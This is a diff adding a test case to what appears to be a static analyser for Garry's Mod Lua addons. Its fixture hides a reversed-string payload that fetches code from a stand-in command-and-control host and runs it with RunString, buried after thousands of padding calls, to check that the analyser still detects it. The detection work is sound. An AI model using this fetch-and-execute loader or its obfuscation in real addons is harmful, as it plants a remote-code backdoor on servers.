@@ -230,6 +230,21 @@ describe('analyzeAddon', () => {
       expect(taintOfArg(run, 0)?.[0]?.kind).toBe('net');
     });
 
+    it('still runs a decoded payload handed to a runner after thousands of padding calls', () => {
+      const payload = 'http.Fetch("http://c2.example/p.lua", function(b) RunString(b) end)';
+      const reversed = [...payload].reverse().join('').replace(/"/g, '\\"');
+      const { analysis } = received({
+        'lua/autorun/server/sv_cfg.lua':
+          'local function run(code)\n  if code then RunString(code) end\nend\n' +
+          'for i = 1, 3001 do run(nil) end\n' +
+          `run(string.reverse("${reversed}"))\n`,
+      });
+      const run = analysis.calls.find((c) => c.api === 'RunString');
+      expect(run?.args[0]).toMatchObject({ k: 'str', v: payload });
+      // The payload itself was analysed again: its http.Fetch is an event of depth 1.
+      expect(analysis.calls.some((c) => c.api === 'http.Fetch')).toBe(true);
+    });
+
     it('still sees it after many such loops, walking the rest shallowly', () => {
       const loops = Array.from(
         { length: 12 },
